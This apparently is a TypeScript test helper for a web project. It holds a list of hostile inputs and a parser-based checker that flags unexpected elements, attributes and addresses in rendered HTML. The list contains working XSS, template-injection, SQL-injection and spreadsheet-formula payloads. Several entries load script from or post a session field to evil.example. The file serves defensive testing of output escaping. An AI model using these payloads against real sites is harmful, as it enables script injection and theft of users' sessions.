/** What somebody could type who wishes harm to those who read it, or whose keyboard is odd. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.example/x.js></script>',
  '</textarea><script>alert(1)</script>',
  '</title></style></head><body onload=alert(1)>',
  '</option></select><img src=x onerror=alert(1)>',
  '</button></form><form action="https://evil.example/"><input name=session>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert("x")</SCRIPT>">',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>',
  '<a href="javascript:alert(1)">a</a><a href=" &#106;avascript:alert(1)">b</a>',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>',
  '<div popover id=claim-001.13>mine</div><button popovertarget=main>b</button>',
  '<plaintext>',
  '<!-- --!> <img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p style="position:fixed;inset:0">over all</p>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '`"><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &quot;',
  '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [y](vbscript:x) [z](file:///etc/passwd)',
  '[x](https://ok.example/"onmouseover="alert(1)) ![x](https://evil.example/track.png)',
  '<javascript:alert(1)> <https://ok.example/"><img/src=x>',
  '[r]: javascript:alert(1)\n\n[r] [x][r]',
  '[001.13"onclick="alert(1)] [000.22]( javascript:alert(1) ) [[001.13]](x)',
  '# heading\n\n> quote\n\n```html\n<script>alert(1)</script>\n```\n\n| a | b |\n|---|---|\n| <b> | c |',
  '\u202egpj.exe\u202c \u2066isolated \u200fright\u200f \u202eleft open',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O',
  `${'W'.repeat(180)}`,
  '\u200b\u200b\ufeff\u2028next line\u2029next paragraph\u0085',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %> #{7*7} {%raw%}',
  "'; drop table post; -- \\' \\x3cscript\\x3e \\u003cscript\\u003e",
  'null undefined NaN true [object Object] __proto__ constructor toString',
  '=HYPERLINK("https://evil.example/","x") @SUM(A1) +1 -1 \t|cmd',
  '👩‍👩‍👧‍👦🏳️‍🌈 مرحبا שלום ١٢٣ 漢字仮名 \u{e0041}\u{e007f}',
];

const elements =
  /^(html|head|meta|link|title|style|script|body|a|header|nav|ul|ol|li|main|h[1-4]|p|b|i|u|em|strong|s|small|div|span|section|search|aside|article|figure|figcaption|form|input|textarea|select|optgroup|option|datalist|button|label|fieldset|legend|details|summary|blockquote|q|pre|code|hr|br|dl|dt|dd|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|bdi|time|progress|svg|g|path|line|rect|circle|text|tspan|desc|defs|pattern|use)$/;
const attributes =
  /^(id|class|lang|dir|role|hidden|tabindex|title|nonce|type|charset|name|content|src|href|rel|target|method|action|form|formaction|formnovalidate|enctype|accept|value|checked|selected|disabled|required|readonly|multiple|min|max|step|minlength|maxlength|rows|cols|inputmode|autocomplete|placeholder|pattern|for|open|scope|colspan|rowspan|start|reversed|datetime|download|spellcheck|blocking|list|popover|popovertarget|popovertargetaction|low|high|aria-[a-z]+|data-[a-z-]+)$/;
const ofPictures =
  /^(viewbox|width|height|x|y|x1|x2|y1|y2|dx|dy|cx|cy|r|rx|ry|d|points|transform|text-anchor|preserveaspectratio|fill|fill-opacity|stroke|stroke-width|stroke-dasharray|focusable|pattern[a-z]+)$/i;

const decoded = (value: string) =>
  value
    .replace(/&#(x?)([0-9a-f]+);?/gi, (_, hex, code) => String.fromCodePoint(Number.parseInt(code, hex ? 16 : 10)))
    .replace(
      /&(amp|quot|lt|gt|apos|colon|tab|newline);?/gi,
      (_, name: string) =>
        ({ amp: '&', quot: '"', lt: '<', gt: '>', apos: "'", colon: ':', tab: '\t', newline: '\n' })[
          name.toLowerCase()
        ]!,
    );

const isAddress = (value: string) => /^(\/(?!\/)|#|https?:\/\/|mailto:|$)/.test(decoded(value));

/** workerd's own parser, whose types the project does not bring. */
declare const HTMLRewriter: new () => {
  on: (
    selector: string,
    handlers: { element: (found: { tagName: string; attributes: Iterable<string[]> }) => void },
  ) => { transform: (response: Response) => Response };
};

/** What an HTML parser finds on a page that no page of ours has: elements, attributes, addresses, code. */
export const faultsIn = async (html: string): Promise<string[]> => {
  const faults: string[] = [];
  const count = { h1: 0, main: 0, style: 0, script: 0 };
  const parser = new HTMLRewriter().on('*', {
    element: ({ tagName, attributes: own }) => {
      const all = [...own].map(([name, value]) => [name!, value!] as const);
      if (!elements.test(tagName)) faults.push(`<${tagName}>`);
      if (tagName in count) count[tagName as keyof typeof count] += 1;
      for (const [name, value] of all) {
        const isKnown = attributes.test(name) || ofPictures.test(name);
        if (!isKnown) faults.push(`<${tagName} ${name}="${value}">`);
        if (/^(href|src|action|formaction)$/.test(name) && !isAddress(value)) faults.push(`${name}="${value}"`);
        if (/^(action|formaction)$/.test(name) && !value.startsWith('/courses/')) faults.push(`${name}="${value}"`);
      }
      const has = (name: string, value?: string) =>
        all.some(([one, is]) => one === name && (value === undefined || is === value));
      if (tagName === 'script' && !(has('nonce') && has('src', '/page.js'))) faults.push('<script>');
      if (tagName === 'style' && !has('nonce')) faults.push('<style>');
      if (tagName === 'link' && !(has('rel', 'expect') && has('href', '#live'))) faults.push('<link>');
    },
  });
  await parser.transform(new Response(html, { headers: { 'content-type': 'text/html' } })).text();
  for (const [name, times] of Object.entries(count)) if (times !== 1) faults.push(`${times} of <${name}>`);
  return faults;
};
